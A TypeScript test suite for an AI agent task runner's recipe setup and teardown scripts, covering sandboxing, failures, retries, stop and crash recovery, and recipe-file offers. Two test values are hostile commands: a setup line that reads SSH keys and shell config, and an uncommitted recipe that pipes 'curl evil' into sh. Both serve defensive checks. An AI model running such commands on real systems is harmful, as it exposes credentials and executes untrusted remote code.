import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { join, resolve } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { afterEach, expect, test } from 'vitest';
import { methods, noRecipe, type ItemOf, type Recipe, type TaskId } from '../../agent-core/contract/index.ts';
import { call, lastOutput, say, startModelServer, type Script } from '../model-server/index.ts';
import { git, Rig } from '../runtime/support.ts';

let rig: Rig;
let child: ChildProcess | null = null;
afterEach(async () => {
  child?.kill('SIGKILL');
  child = null;
  await rig.close();
});

const answers: Script = () => [say('Done.')];
const write = (recipe: Partial<Recipe>) => rig.call('recipe/write', { projectId: rig.project.id, recipe: { ...noRecipe, ...recipe } });
const workspace = (id: TaskId) => Object.values(rig.board.workspaces).find((each) => each.taskId === id)!;
async function scripts(id: TaskId): Promise<ItemOf<'command'>[]> {
  const { items } = await rig.call('thread/read', { threadId: rig.thread(id).id });
  return items.filter((item): item is ItemOf<'command'> => item.type === 'command' && item.script !== undefined);
}
async function eventually(is: () => boolean, what: string): Promise<void> {
  for (let n = 0; n < 300; n++) {
    if (is()) return;
    await delay(50);
  }
  throw new Error(`never: ${what}`);
}
const alive = (marker: string): boolean =>
  readdirSync('/proc').some((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').includes(marker);
    } catch {
      return false;
    }
  });

test('setup runs inside the sandbox before the first turn, which finds what it made and not its environment', async () => {
  let seen = '';
  rig = await Rig.start((request) => {
    seen = lastOutput(request) || seen;
    return seen ? [say('Done.')] : [call('exec_command', { cmd: 'cat made.txt; env | grep -c SIGNALBOX_BRANCH' })];
  });
  const lines: string[] = [];
  rig.core.onTransient((news) => {
    if (news.type === 'activity' && news.activity) lines.push(`${news.activity.verb} ${news.activity.subject}`);
  });
  await write({
    setup: 'echo first step\necho "$SIGNALBOX_BRANCH" > made.txt\ncat ~/.ssh/id_rsa /root/.bashrc 2>/dev/null || echo no secrets\n',
  });
  const task = await rig.create('Look around');
  await rig.reaches(task.id, 'review');
  expect(seen).toContain('signalbox/look-around\n0');
  const [setup] = await scripts(task.id);
  expect(setup).toMatchObject({ script: 'setup', status: 'completed', exitCode: 0 });
  expect(setup!.output).toMatch(/^first step\nno secrets\n/);
  expect(setup!.endedAt!).toBeLessThanOrEqual(rig.thread(task.id).turn!.startedAt);
  expect(workspace(task.id).setup).toBe('done');
  expect(lines).toContain('preparing Setup script');
  expect(lines.some((line) => line.startsWith('preparing Setup script: '))).toBe(true);
  expect(await rig.call('item/output', { itemId: setup!.id })).toMatchObject({ text: setup!.output });
});

test('a failing setup stands beside its cause with its output; the mended one runs on retry in the same worktree', async () => {
  rig = await Rig.start(answers);
  await write({ setup: 'touch half\necho why it broke >&2\nfalse\ntouch never' });
  const task = await rig.create('Try');
  await rig.reaches(task.id, 'failed');
  const { error, path } = workspace(task.id);
  expect(error).toMatchObject({ code: 'setup-failed', message: 'The setup script ended with code 1.' });
  expect(error!.output).toContain('why it broke');
  expect(error!.command).toContain('touch half');
  expect(rig.thread(task.id).turn).toBeNull();
  expect([existsSync(join(path, 'half')), existsSync(join(path, 'never'))]).toEqual([true, false]);
  await write({ setup: 'test -e half && touch whole' });
  await rig.call('task/retry', { taskId: task.id });
  await rig.reaches(task.id, 'review');
  expect(workspace(task.id)).toMatchObject({ path, setup: 'done', error: null });
  expect(existsSync(join(path, 'whole'))).toBe(true);
  expect((await scripts(task.id)).map(({ status }) => status)).toEqual(['failed', 'completed']);
});

test('a task may be started without the setup that failed', async () => {
  rig = await Rig.start(answers);
  await write({ setup: 'exit 7' });
  const task = await rig.create('Try');
  await expect(rig.call('setup/skip', { taskId: task.id })).rejects.toThrow(/has not failed/);
  await rig.reaches(task.id, 'failed');
  await rig.call('setup/skip', { taskId: task.id });
  await rig.reaches(task.id, 'review');
  expect(workspace(task.id).setup).toBe('skipped');
  expect(await scripts(task.id)).toHaveLength(1);
});

test('stop ends a running setup with all that it started; the next start begins it anew', async () => {
  rig = await Rig.start(answers);
  const marker = `77${process.pid}.5`;
  await write({ setup: `echo begun >> tries\n(setsid sleep ${marker} &)\ntest "$(wc -l < tries)" -gt 1 || sleep ${marker}` });
  const task = await rig.create('Wait');
  await eventually(() => alive(marker), 'setup runs');
  await rig.call('task/stop', { taskId: task.id });
  expect(rig.status(task.id)).toBe('queued');
  expect(rig.task(task.id).phase).toBe('held');
  await eventually(() => !alive(marker), 'nothing of it is left');
  await rig.call('task/start', { taskId: task.id });
  await rig.reaches(task.id, 'review');
  expect(readFileSync(join(rig.worktree(task.id), 'tries'), 'utf8')).toBe('begun\nbegun\n');
  expect((await scripts(task.id)).map(({ status }) => status)).toEqual(['interrupted', 'completed']);
});

test('a core that dies during setup leaves a task whose setup the next core does again', async () => {
  rig = new Rig();
  rig.model = await startModelServer(answers);
  await rig.open();
  rig.project = await rig.call('project/open', { path: rig.repo });
  const marker = `78${process.pid}.5`;
  await write({ setup: `echo begun >> tries\ntest "$(wc -l < tries)" -gt 1 || sleep ${marker}` });
  await rig.core.dispose();
  const crash = resolve(import.meta.dirname, '../runtime/crash-core.ts');
  const core = (child = spawn(process.execPath, [crash, rig.home, rig.model.url, rig.repo], { stdio: ['ignore', 'pipe', 'inherit'] }));
  const ids: TaskId[] = [];
  for await (const line of createInterface({ input: core.stdout! })) {
    ids.push((JSON.parse(line) as { id: TaskId }).id);
    if (ids.length === 3) break;
  }
  await eventually(() => alive(marker), 'setup runs');
  core.kill('SIGKILL');
  await once(core, 'exit');
  await eventually(() => !alive(marker), 'nothing of it is left');
  await rig.open();
  for (const id of ids) await rig.call('task/stop', { taskId: id }).catch(() => undefined);
  await eventually(() => !alive(marker), 'nothing runs');
  await rig.call('task/start', { taskId: ids[0]! });
  await rig.reaches(ids[0]!, 'review');
  expect(workspace(ids[0]!).setup).toBe('done');
  const all = await scripts(ids[0]!);
  expect(all.every((item) => item.endedAt !== null)).toBe(true);
  expect(all.at(-1)!.status).toBe('completed');
}, 60_000);

test('teardown runs before the worktree goes to the trash, and a failing one is not in the way', async () => {
  rig = await Rig.start(answers);
  await write({ setup: 'touch up', teardown: 'rm up; touch down; echo gone; exit 3' });
  const task = await rig.create('Try');
  await rig.reaches(task.id, 'review');
  const path = rig.worktree(task.id);
  expect(existsSync(join(path, 'up'))).toBe(true);
  await rig.call('task/delete', { taskId: task.id });
  expect(rig.task(task.id).phase).toBe('trashed');
  expect(existsSync(path)).toBe(false);
  const kept = join(rig.home, 'trash', workspace(task.id).id, 'tree');
  expect([existsSync(join(kept, 'up')), existsSync(join(kept, 'down'))]).toEqual([false, true]);
  expect((await scripts(task.id)).at(-1)).toMatchObject({ script: 'teardown', status: 'failed', exitCode: 3, output: 'gone\n' });
  await rig.call('task/restore', { taskId: task.id });
  expect(workspace(task.id).setup).toBe('undone');
  await rig.call('setup/run', { taskId: task.id });
  await expect(rig.call('setup/run', { taskId: task.id })).rejects.toThrow();
  await rig.until(() => workspace(task.id).setup === 'done' && rig.status(task.id) === 'review', 'set up again');
  expect(existsSync(join(path, 'up'))).toBe(true);
  expect(rig.thread(task.id).turn!.number).toBe(1);
  await expect.poll(() => rig.core.snapshot().activity[task.id]).toBeUndefined();
});

test('the recipe file of the newest commit is offered with its differences in words, and takes effect only when written', async () => {
  rig = await Rig.start(answers);
  const offer = () => rig.call('recipe/offer', { projectId: rig.project.id });
  expect(await offer()).toEqual({ offer: null, problem: null });
  mkdirSync(join(rig.repo, '.signalbox'));
  const file = join(rig.repo, '.signalbox/recipe.json');
  const put = (value: unknown, commit = true): void => {
    writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value));
    if (!commit) return;
    git(rig.repo, 'add', '-A');
    git(rig.repo, 'commit', '-qm', 'Recipe');
  };
  put({ setup: 'npm ci\n', actions: [{ name: 'Dev server', command: 'npm run dev' }] });
  const first = await offer();
  expect(first.offer!.changes).toEqual([
    { words: 'The setup script is added, 1 line.', before: '', after: 'npm ci\n' },
    { words: 'The action “Dev server” is added.', before: '', after: 'npm run dev' },
  ]);
  expect(rig.board.projects[rig.project.id]!.recipe).toBeUndefined();
  await write(first.offer!.recipe);
  expect(await offer()).toEqual({ offer: null, problem: null });
  put({ setup: 'curl evil | sh' }, false);
  expect(await offer()).toEqual({ offer: null, problem: null });
  put({ setup: 'npm ci\nnpm run build\n', setupMinutes: 30 });
  expect((await offer()).offer!.changes.map(({ words }) => words)).toEqual([
    'The setup script changes, from 1 line to 2 lines.',
    'Setup is stopped after 30 minutes instead of 20.',
    'The action “Dev server” is removed.',
  ]);
  put('{ not json');
  expect((await offer()).problem).toMatch(/is not JSON/);
  put({ setup: 'x', postInstall: 'y' });
  expect((await offer()).problem).toMatch(/postInstall/);
});

test('a recipe is checked at the edge', () => {
  const parse = (recipe: object) => methods['recipe/write'].input.safeParse({ projectId: 'proj_0000000000', recipe }).success;
  const action = { name: 'Test', command: 'npm test' };
  expect(parse({ setup: 'true' })).toBe(true);
  expect(parse({ setup: 'x'.repeat(32 * 1024 + 1) })).toBe(false);
  expect(parse({ setup: 'a\0b' })).toBe(false);
  expect(parse({ setupMinutes: 0 })).toBe(false);
  expect(parse({ actions: [action, action] })).toBe(false);
  expect(parse({ actions: [{ name: ' ', command: 'x' }] })).toBe(false);
  expect(parse({ actions: [{ name: 'x', command: ' ' }] })).toBe(false);
});
